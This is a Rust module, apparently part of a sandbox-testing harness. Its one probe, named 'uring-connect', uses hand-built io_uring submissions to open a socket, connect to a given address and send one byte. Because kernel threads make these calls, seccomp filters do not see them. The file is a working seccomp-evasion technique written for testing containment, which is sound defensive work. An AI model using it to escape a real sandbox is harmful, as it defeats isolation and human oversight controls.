//! io_uring: system calls made by the kernel's own threads, which no seccomp filter sees.

use super::Address;
use crate::report::{Args, Attack, Outcome, Trace};
use crate::sys;
use crate::sys::Res;
use std::sync::atomic::{AtomicU32, Ordering};

pub const ATTACKS: &[Attack] = &[("uring-connect", uring_connect)];

const SETUP: i64 = 425;
const ENTER: i64 = 426;
const OFFSET_SQES: i64 = 0x1000_0000;
const OP_CONNECT: u8 = 16;
const OP_SEND: u8 = 26;
const OP_SOCKET: u8 = 45;

/// `struct io_uring_params`, as far as it is read here: offsets in 32-bit words.
const PARAMS_WORDS: usize = 30;

struct Ring {
    fd: i64,
    params: [u32; PARAMS_WORDS],
    rings: *mut u8,
    entries: *mut u8,
}

impl Ring {
    fn new() -> Res<Ring> {
        let mut params = [0u32; PARAMS_WORDS];
        let fd = sys!(SETUP, 4, params.as_mut_ptr())?;
        let protection = libc::PROT_READ | libc::PROT_WRITE;
        let map = |offset: i64| {
            sys!(
                libc::SYS_mmap,
                0,
                16384,
                protection,
                libc::MAP_SHARED,
                fd,
                offset
            )
        };
        Ok(Ring {
            fd,
            params,
            rings: map(0)? as *mut u8,
            entries: map(OFFSET_SQES)? as *mut u8,
        })
    }

    fn word(&self, offset: u32) -> &AtomicU32 {
        // SAFETY: the offset was given by the kernel and lies in the mapping, which stays for good;
        // the word is shared with the kernel, hence atomic.
        unsafe { &*(self.rings.add(offset as usize) as *const AtomicU32) }
    }

    /// Submits one operation and returns its result.
    fn submit(&self, entry: &[u8; 64]) -> Res {
        // sq_off: head, tail, mask, entries, flags, dropped, array: from word 10. cq_off: from word 20.
        let (sq_tail, sq_mask, sq_array) = (self.params[11], self.params[12], self.params[16]);
        let (cq_head, cq_mask, cqes) = (self.params[20], self.params[22], self.params[25]);
        let tail = self.word(sq_tail).load(Ordering::Acquire);
        let slot = tail & self.word(sq_mask).load(Ordering::Relaxed);
        // SAFETY: slot is below the number of entries (4), each of 64 bytes, in a mapping of 16 KiB.
        unsafe {
            std::ptr::copy_nonoverlapping(entry.as_ptr(), self.entries.add(slot as usize * 64), 64)
        };
        self.word(sq_array + slot * 4)
            .store(slot, Ordering::Release);
        self.word(sq_tail)
            .store(tail.wrapping_add(1), Ordering::Release);
        sys!(ENTER, self.fd, 1, 1, 1, 0, 0)?;
        let head = self.word(cq_head).load(Ordering::Acquire);
        let at = head & self.word(cq_mask).load(Ordering::Relaxed);
        let result = self.word(cqes + at * 16 + 8).load(Ordering::Acquire) as i32;
        self.word(cq_head)
            .store(head.wrapping_add(1), Ordering::Release);
        if result < 0 {
            Err(sys::Errno(-result))
        } else {
            Ok(i64::from(result))
        }
    }
}

fn entry(operation: u8, fd: i32, offset: u64, address: u64, length: u32) -> [u8; 64] {
    let mut entry = [0u8; 64];
    entry[0] = operation;
    entry[4..8].copy_from_slice(&fd.to_ne_bytes());
    entry[8..16].copy_from_slice(&offset.to_ne_bytes());
    entry[16..24].copy_from_slice(&address.to_ne_bytes());
    entry[24..28].copy_from_slice(&length.to_ne_bytes());
    entry
}

/// A socket, a connection and a byte, none of them by a call of their own.
fn uring_connect(args: &Args, trace: &mut Trace) -> Outcome {
    let Some(to) = Address::of(args) else {
        return Outcome::NotTried("no address".into());
    };
    let ring = match trace.call("io_uring_setup", Ring::new()) {
        Ok(ring) => ring,
        Err(_) => return Outcome::Nothing,
    };
    // For OP_SOCKET: fd is the family, off the type, len the protocol.
    let socket = ring.submit(&entry(OP_SOCKET, to.family, libc::SOCK_STREAM as u64, 0, 0));
    let Ok(fd) = trace.call("socket by ring", socket) else {
        return Outcome::Effect("a ring was made".into());
    };
    let connect = entry(
        OP_CONNECT,
        fd as i32,
        to.length() as u64,
        to.pointer() as u64,
        0,
    );
    if trace
        .call("connect by ring", ring.submit(&connect))
        .is_err()
    {
        return Outcome::Effect("a ring was made".into());
    }
    let byte = [b'!'];
    let _ = trace.call(
        "send by ring",
        ring.submit(&entry(OP_SEND, fd as i32, 0, byte.as_ptr() as u64, 1)),
    );
    Outcome::Effect("connected by ring".into())
}
